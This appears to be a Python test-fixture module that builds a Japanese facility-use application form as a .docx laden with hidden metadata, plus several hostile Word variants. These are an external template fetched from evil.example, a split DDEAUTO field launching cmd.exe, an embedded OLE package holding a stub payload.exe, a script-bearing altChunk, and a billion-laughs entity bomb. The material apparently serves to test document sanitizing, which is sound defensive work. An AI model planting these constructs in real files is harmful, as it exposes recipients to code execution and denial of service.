"""申請書.docx: a styled application form, and the hostile variants of word documents."""
from sampledocs import image, raw

HEAD = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
W = ('xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" '
     'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"')
DRAW = ('xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing" '
        'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" '
        'xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"')
OFFICE_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
PACKAGE_REL = "http://schemas.openxmlformats.org/package/2006/relationships/"
PACKAGE_TYPE = "application/vnd.openxmlformats-package."
WORD_TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml."


def rels(rows):
    """rows: (id, type, target[, mode])."""
    out = HEAD + '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/' \
                 'relationships">'
    for row in rows:
        kind = row[1] if "://" in row[1] else OFFICE_REL + row[1]
        mode = f' TargetMode="{row[3]}"' if len(row) > 3 else ""
        out += f'<Relationship Id="{row[0]}" Type="{kind}" Target="{row[2]}"{mode}/>'
    return out + "</Relationships>"


def types(overrides, defaults=()):
    out = HEAD + '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">' \
        '<Default Extension="rels" ContentType="' + PACKAGE_TYPE + 'relationships+xml"/>' \
        '<Default Extension="xml" ContentType="application/xml"/>'
    for ext, kind in defaults:
        out += f'<Default Extension="{ext}" ContentType="{kind}"/>'
    for part, kind in overrides:
        out += f'<Override PartName="/{part}" ContentType="{kind}"/>'
    return out + "</Types>"


def properties(title, creator):
    core = HEAD + ('<cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/'
                   'metadata/core-properties" xmlns:dc="http://purl.org/dc/elements/1.1/" '
                   'xmlns:dcterms="http://purl.org/dc/terms/" '
                   'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance">'
                   f"<dc:title>{title}</dc:title><dc:creator>{creator}</dc:creator>"
                   f"<cp:lastModifiedBy>{creator}</cp:lastModifiedBy>"
                   '<dcterms:created xsi:type="dcterms:W3CDTF">2026-04-01T00:00:00Z'
                   "</dcterms:created></cp:coreProperties>")
    app = HEAD + ('<Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/'
                  'extended-properties"><Application>Microsoft Office Word</Application>'
                  "<Company>関所市役所内部</Company><Manager>秘匿担当</Manager></Properties>")
    return core, app


def run(text, props=""):
    props = f"<w:rPr>{props}</w:rPr>" if props else ""
    return f'<w:r w:rsidR="00AB12CD">{props}<w:t xml:space="preserve">{text}</w:t></w:r>'


def para(content, style="", props=""):
    style = f'<w:pStyle w:val="{style}"/>' if style else ""
    both = f"<w:pPr>{style}{props}</w:pPr>" if style or props else ""
    return f"<w:p>{both}{content}</w:p>"


def cell(width, content, shade=""):
    fill = f'<w:shd w:val="clear" w:color="auto" w:fill="{shade}"/>' if shade else ""
    return (f'<w:tc><w:tcPr><w:tcW w:w="{width}" w:type="dxa"/>{fill}</w:tcPr>'
            f"{para(run(content))}</w:tc>")


def table(rows):
    line = '<w:{0} w:val="single" w:sz="4" w:space="0" w:color="404040"/>'
    edges = "".join(line.format(e) for e in ("top", "left", "bottom", "right", "insideH",
                                            "insideV"))
    out = (f'<w:tbl><w:tblPr><w:tblW w:w="9000" w:type="dxa"/><w:tblBorders>{edges}'
           '</w:tblBorders></w:tblPr><w:tblGrid><w:gridCol w:w="2600"/><w:gridCol w:w="6400"/>'
           "</w:tblGrid>")
    for left, right in rows:
        out += f'<w:tr>{cell(2600, left, "E8EEF4")}{cell(6400, right)}</w:tr>'
    return out + "</w:tbl>"


def picture(rel, name, width, height):
    return ('<w:r><w:drawing><wp:inline distT="0" distB="0" distL="0" distR="0">'
            f'<wp:extent cx="{width}" cy="{height}"/><wp:docPr id="1" name="{name}"/>'
            '<a:graphic><a:graphicData '
            'uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic>'
            f'<pic:nvPicPr><pic:cNvPr id="1" name="{name}"/><pic:cNvPicPr/></pic:nvPicPr>'
            f'<pic:blipFill><a:blip r:embed="{rel}"/><a:stretch><a:fillRect/></a:stretch>'
            f'</pic:blipFill><pic:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="{width}" '
            f'cy="{height}"/></a:xfrm><a:prstGeom prst="rect"><a:avLst/></a:prstGeom></pic:spPr>'
            "</pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r>")


STYLES = HEAD + f"""<w:styles {W}><w:docDefaults><w:rPrDefault><w:rPr>
<w:rFonts w:ascii="Times New Roman" w:hAnsi="Times New Roman" w:eastAsia="MS Mincho"/>
<w:sz w:val="21"/><w:lang w:val="en-US" w:eastAsia="ja-JP"/></w:rPr></w:rPrDefault>
</w:docDefaults><w:style w:type="paragraph" w:default="1" w:styleId="Normal">
<w:name w:val="Normal"/></w:style>
<w:style w:type="paragraph" w:styleId="Title"><w:name w:val="Title"/><w:basedOn w:val="Normal"/>
<w:pPr><w:spacing w:before="240" w:after="240"/><w:jc w:val="center"/></w:pPr>
<w:rPr><w:b/><w:sz w:val="36"/></w:rPr></w:style>
<w:style w:type="paragraph" w:styleId="Heading1"><w:name w:val="heading 1"/>
<w:basedOn w:val="Normal"/><w:next w:val="Normal"/><w:pPr><w:keepNext/>
<w:spacing w:before="200"/><w:outlineLvl w:val="0"/></w:pPr>
<w:rPr><w:b/><w:color w:val="1F3864"/><w:sz w:val="26"/></w:rPr></w:style></w:styles>"""


def form_body():
    old = '<w:del w:id="11" w:author="変更前の起案者" w:date="2026-04-02T01:00:00Z"><w:r>' \
          "<w:delText>五月末日</w:delText></w:r></w:del>"
    new = '<w:ins w:id="12" w:author="変更前の起案者" w:date="2026-04-02T01:00:00Z">' \
          + run("六月三十日") + "</w:ins>"
    remark = '<w:commentRangeStart w:id="0"/>' + run("使用料の減免", "<w:u w:val=\"single\"/>") \
        + '<w:commentRangeEnd w:id="0"/><w:r><w:commentReference w:id="0"/></w:r>'
    page = '<w:fldSimple w:instr=" DATE \\@ &quot;ggge年M月d日&quot; ">' + run("令和8年4月1日") \
        + "</w:fldSimple>"
    link = '<w:hyperlink r:id="rId8">' + run("申請の手引(市ホームページ)",
                                            '<w:color w:val="0563C1"/><w:u w:val="single"/>') \
        + "</w:hyperlink>"
    rows = [("申請者 氏名", "関所 太郎"), ("住所", "東京都調布市小島町二丁目35番地1"),
            ("電話", "042-000-0000"), ("使用する施設", "市民会館 大ホール"),
            ("使用の日時", "令和8年7月4日(土) 午前9時から午後5時まで"), ("人数", "約450人"),
            ("使用料", "金 38,500円")]
    seal = picture("rId7", "印影", 900000, 900000)
    photo = picture("rId6", "会場写真", 2880000, 2160000)
    return (para(run("公の施設使用許可申請書"), "Title")
            + para(page, props='<w:jc w:val="right"/>') + para(run("関所市長 様"))
            + para(run("次のとおり施設を使用したいので、関所市民会館条例第5条の規定により申請します。"))
            + para(run("1 申請の内容"), "Heading1") + table(rows)
            + para(run("2 減免の申請"), "Heading1")
            + para(remark + run("を希望する場合は、") + old + new
                   + run("までに別に定める書類を提出してください。"))
            + para(run("3 会場の写真と受付印"), "Heading1")
            + para(photo + run("  ") + seal) + para(link))


def form():
    """The parts of 申請書.docx."""
    core, app = properties("公の施設使用許可申請書", "起案者本名")
    section = ('<w:sectPr><w:headerReference w:type="default" r:id="rId3"/>'
               '<w:footerReference w:type="default" r:id="rId4"/>'
               '<w:pgSz w:w="11906" w:h="16838"/><w:pgMar w:top="1418" w:right="1418" '
               'w:bottom="1418" w:left="1418" w:header="851" w:footer="851" w:gutter="0"/>'
               "</w:sectPr>")
    footer = para('<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText '
                  'xml:space="preserve"> PAGE </w:instrText></w:r><w:r><w:fldChar '
                  'w:fldCharType="separate"/></w:r>' + run("1")
                  + '<w:r><w:fldChar w:fldCharType="end"/></w:r>', props='<w:jc w:val="center"/>')
    where = image.exif(1, 35.6506, 139.5407, "SekishoCam-7")
    photo = image.jpeg(240, 176, image.town_hall(240, 176), where, 0.8)
    text = image.chunk(b"tEXt", b"Author\0Secret-Author")
    return {
        "[Content_Types].xml": types(
            [("word/document.xml", WORD_TYPE + "document.main+xml"),
             ("word/styles.xml", WORD_TYPE + "styles+xml"),
             ("word/settings.xml", WORD_TYPE + "settings+xml"),
             ("word/header1.xml", WORD_TYPE + "header+xml"),
             ("word/footer1.xml", WORD_TYPE + "footer+xml"),
             ("word/comments.xml", WORD_TYPE + "comments+xml"),
             ("docProps/core.xml", PACKAGE_TYPE + "core-properties+xml"),
             ("docProps/app.xml", "application/vnd.openxmlformats-officedocument."
                                  "extended-properties+xml")],
            [("jpg", "image/jpeg"), ("png", "image/png")]),
        "_rels/.rels": rels([("rId1", "officeDocument", "word/document.xml"),
                             ("rId2", PACKAGE_REL + "metadata/core-properties",
                              "docProps/core.xml"),
                             ("rId3", "extended-properties", "docProps/app.xml")]),
        "word/document.xml": HEAD + f"<w:document {W} {DRAW}><w:body>" + form_body() + section
                             + "</w:body></w:document>",
        "word/_rels/document.xml.rels": rels([
            ("rId1", "styles", "styles.xml"), ("rId2", "settings", "settings.xml"),
            ("rId3", "header", "header1.xml"), ("rId4", "footer", "footer1.xml"),
            ("rId5", "comments", "comments.xml"), ("rId6", "image", "media/image1.jpg"),
            ("rId7", "image", "media/image2.png"),
            ("rId8", "hyperlink", "https://www.city.sekisho.example.jp/tebiki", "External")]),
        "word/styles.xml": STYLES,
        "word/settings.xml": HEAD + f'<w:settings {W}><w:rsids><w:rsidRoot w:val="00AB12CD"/>'
                                    '<w:rsid w:val="00AB12CD"/></w:rsids></w:settings>',
        "word/header1.xml": HEAD + f"<w:hdr {W}>" + para(
            run("機密性2(関所市)", "<w:b/>"), props='<w:jc w:val="right"/>') + "</w:hdr>",
        "word/footer1.xml": HEAD + f"<w:ftr {W}>{footer}</w:ftr>",
        "word/comments.xml": HEAD + f'<w:comments {W}><w:comment w:id="0" w:author="確認した係長" '
                                    'w:date="2026-04-02T02:00:00Z" w:initials="k">'
                             + para(run("減免の規則の改正を確認のこと")) + "</w:comment></w:comments>",
        "word/media/image1.jpg": photo,
        "word/media/image2.png": image.png(96, 96, image.seal(96), text),
        "docProps/core.xml": core, "docProps/app.xml": app,
    }


def small(body, more_rels=(), more_types=(), defaults=(), more_parts=None, rels_of=None):
    """A minimal document with the given body, for the hostile samples."""
    parts = {
        "[Content_Types].xml": types([("word/document.xml", WORD_TYPE + "document.main+xml")]
                                     + list(more_types), defaults),
        "_rels/.rels": rels([("rId1", "officeDocument", "word/document.xml")]),
        "word/document.xml": HEAD + f'<w:document {W} {DRAW} xmlns:o="urn:schemas-microsoft-com:'
                             'office:office" xmlns:v="urn:schemas-microsoft-com:vml"><w:body>'
                             + body + "</w:body></w:document>",
    }
    if more_rels:
        parts["word/_rels/document.xml.rels"] = rels(more_rels)
    for part, rows in (rels_of or {}).items():
        parts[part] = rels(rows)
    parts.update(more_parts or {})
    return parts


def external_template():
    return small(para(run("ひな形を外部から読み込む文書です。")), [("rId1", "settings", "settings.xml")],
                 [("word/settings.xml", WORD_TYPE + "settings+xml")],
                 more_parts={"word/settings.xml": HEAD + f"<w:settings {W}>"
                             '<w:attachedTemplate r:id="rId1"/></w:settings>'},
                 rels_of={"word/_rels/settings.xml.rels": [
                     ("rId1", "attachedTemplate", "http://evil.example/t.dotm", "External")]})


def split_dde():
    def part(text):
        return f'<w:r><w:instrText xml:space="preserve">{text}</w:instrText></w:r>'
    field = ('<w:r><w:fldChar w:fldCharType="begin"/></w:r>' + part(" D") + part("DEA")
             + part('UTO c:\\\\windows\\\\system32\\\\cm') + part('d.exe "/k calc.exe" ')
             + '<w:r><w:fldChar w:fldCharType="separate"/></w:r>' + run("見積額 120,000円")
             + '<w:r><w:fldChar w:fldCharType="end"/></w:r>')
    return small(para(run("分割された DDE フィールド:")) + para(field))


def ole_package():
    native = raw.cfb({"\x01Ole10Native": b"\x02\0payload.exe\0C:\\tmp\\payload.exe\0MZ-EVIL",
                      "\x01CompObj": b"Package"})
    body = ('<w:r><w:object><v:shape id="s1" style="width:60pt;height:40pt">'
            '<v:imagedata r:id="rId2"/></v:shape><o:OLEObject Type="Embed" ProgID="Package" '
            'ShapeID="s1" DrawAspect="Icon" ObjectID="_1" r:id="rId1"/></w:object></w:r>')
    return small(para(run("添付の梱包物:")) + para(body),
                 [("rId1", "oleObject", "embeddings/oleObject1.bin"),
                  ("rId2", "image", "media/image1.png")], defaults=[
                      ("bin", "application/vnd.openxmlformats-officedocument.oleObject"),
                      ("png", "image/png")],
                 more_parts={"word/embeddings/oleObject1.bin": native,
                             "word/media/image1.png": image.png(32, 32, image.seal(32))})


def alt_chunk():
    html = b"<html><body><script>alert('EVIL-CHUNK')</script>chunk</body></html>"
    return small(para(run("別形式の埋込み:")) + '<w:altChunk r:id="rId1"/>' + para(run("以上")),
                 [("rId1", "aFChunk", "afchunk.html")], defaults=[("html", "text/html")],
                 more_parts={"word/afchunk.html": html})


def billion_laughs():
    parts = small(para(run("X")))
    entities = '<!ENTITY a0 "lol-lol-lol-lol">' + "".join(
        f'<!ENTITY a{i} "' + f"&a{i - 1};" * 10 + '">' for i in range(1, 10))
    parts["word/document.xml"] = HEAD + f"<!DOCTYPE w [{entities}]><w:document {W}><w:body>" \
        "<w:p><w:r><w:t>&a9;</w:t></w:r></w:p></w:body></w:document>"
    return parts
